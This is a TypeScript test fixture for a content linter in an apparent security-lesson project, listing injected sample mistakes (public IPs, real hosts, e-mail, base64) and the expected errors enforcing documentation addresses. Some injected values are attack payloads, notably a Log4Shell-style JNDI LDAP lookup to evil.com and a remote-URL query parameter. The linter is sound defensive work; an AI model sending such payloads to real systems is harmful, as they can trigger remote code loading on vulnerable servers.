import type { MistakeRow } from '../good-project.ts';

const CENSYS =
  'GET / HTTP/1.1\nHost: 198.51.100.10\nUser-Agent: Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)\n\n';

/** Real hosts and addresses in samples. */
export const SAMPLE_MISTAKES: readonly MistakeRow[] = [
  {
    name: 'a public address',
    slips: [['exercises/user-agent/zgrab.yaml', "'192.0.2.18 - -", "'8.8.8.8 - -"]],
    says: [
      'exercises/user-agent/zgrab.yaml:6:9 line.raw: found the real address "8.8.8.8"; expected a documentation address: 192.0.2.x, 198.51.100.x or 203.0.113.x (RFC 5737)',
    ],
  },
  {
    name: 'a public IPv6 address',
    slips: [['exercises/user-agent/zgrab.yaml', "'192.0.2.18 - -", "'2606:4700::1111 - -"]],
    says: [
      'exercises/user-agent/zgrab.yaml:6:9 line.raw: found the real address "2606:4700::1111"; expected a documentation address: 2001:db8::… (RFC 3849)',
    ],
  },
  {
    name: 'a real host in a payload',
    slips: [['exercises/user-agent/zgrab.yaml', '"GET / HTTP', '"GET /?x=http://evil.com/a HTTP']],
    says: [
      'exercises/user-agent/zgrab.yaml:6:69 line.raw: found the real host "evil.com"; expected a reserved name: example.com, anything.example (RFC 2606)',
    ],
  },
  {
    name: 'a real host, percent-encoded',
    slips: [['exercises/user-agent/zgrab.yaml', '"GET / HTTP', '"GET /?x=%68ttp%3A%2F%2Fevil.com HTTP']],
    says: [
      'exercises/user-agent/zgrab.yaml:6:77 line.raw: found the real host "evil.com"; expected a reserved name: example.com, anything.example (RFC 2606)',
    ],
  },
  {
    name: 'a real host in a jndi lookup',
    slips: [
      ['exercises/user-agent/zgrab.yaml', `zgrab/0.x"'`, `zgrab/0.x \${jndi:ldap://evil.com:1389/a}"'`],
    ],
    says: [
      'exercises/user-agent/zgrab.yaml:6:117 line.raw: found the real host "evil.com"; expected a reserved name: example.com, anything.example (RFC 2606) (a host that belongs to a published User-Agent goes into content/real-hosts.yaml)',
    ],
  },
  {
    name: 'a real host that only a User-Agent may carry',
    slips: [['exercises/user-agent/zgrab.yaml', '"GET / HTTP', '"GET /?x=https://about.censys.io/ HTTP']],
    says: [
      'exercises/user-agent/zgrab.yaml:6:70 line.raw: found the real host "about.censys.io"; expected a reserved name: example.com, anything.example (RFC 2606) (content/real-hosts.yaml allows it inside a User-Agent only)',
    ],
  },
  {
    name: 'an e-mail address',
    slips: [['exercises/user-agent/zgrab.yaml', `zgrab/0.x"'`, `zgrab/0.x (me@evil.com)"'`]],
    says: [
      'exercises/user-agent/zgrab.yaml:6:107 line.raw: found the real host "evil.com"; expected a reserved name: example.com, anything.example (RFC 2606) (a host that belongs to a published User-Agent goes into content/real-hosts.yaml)',
    ],
  },
  {
    name: 'a real host inside base64',
    slips: [['user-agent/censys.yaml', base64(CENSYS), base64(CENSYS.replace('198.51.100.10', 'evil.com'))]],
    says: [
      'exercises/user-agent/censys.yaml:6:119 line.raw: found the real host "evil.com"; expected a reserved name: example.com, anything.example (RFC 2606)',
    ],
  },
  {
    name: 'a real host in a request as sent',
    slips: [['requests/zgrab.yaml', '  Host: 198.51.100.10', '  Host: evil.com']],
    says: [
      'content/requests/zgrab.yaml:4:9 sent: found the real host "evil.com"; expected a reserved name: example.com, anything.example (RFC 2606)',
    ],
  },
  {
    name: 'a public address in a lesson (both languages)',
    slips: [
      ['09-user-agent/ja.mdx', '192.0.2.18 - -', '1.1.1.1 - -'],
      ['09-user-agent/en.mdx', '192.0.2.18 - -', '1.1.1.1 - -'],
    ],
    says: [
      'content/lessons/09-user-agent/en.mdx:14:1 log: found the real address "1.1.1.1"; expected a documentation address: 192.0.2.x, 198.51.100.x or 203.0.113.x (RFC 5737)',
      'content/lessons/09-user-agent/ja.mdx:14:1 log: found the real address "1.1.1.1"; expected a documentation address: 192.0.2.x, 198.51.100.x or 203.0.113.x (RFC 5737)',
    ],
  },
];

function base64(text: string): string {
  return Buffer.from(text).toString('base64');
}
